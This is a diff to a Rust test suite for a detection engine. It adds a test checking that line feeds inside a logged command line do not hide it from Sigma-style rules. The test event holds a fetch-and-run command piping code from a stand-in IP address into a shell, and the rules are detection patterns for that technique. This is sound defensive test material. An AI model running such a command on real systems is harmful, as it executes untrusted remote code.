@@ -267,3 +267,14 @@ fn auditds_own_log_meets_the_same_rules() {
         assert_eq!(found, [hit], "{selection}");
     }
 }
+
+#[test]
+fn a_line_feed_does_not_hide_the_rest() {
+    let event = process("e", 0, json!({"CommandLine": "curl -s\nhttp://203.0.113.7/x |\nsh"}));
+    let rows = ["CommandLine: 'curl*sh'", "CommandLine|contains: 'curl*| sh'", "CommandLine|re: 'curl.*sh$'"];
+    for selection in rows {
+        let found = run(&mut Detector::new(load(&rule(selection)).0), &event);
+        assert_eq!(found.len(), 1, "{selection}");
+        assert_eq!(found[0].matched[0].value, event.sigma["CommandLine"], "{selection}: told as it was");
+    }
+}
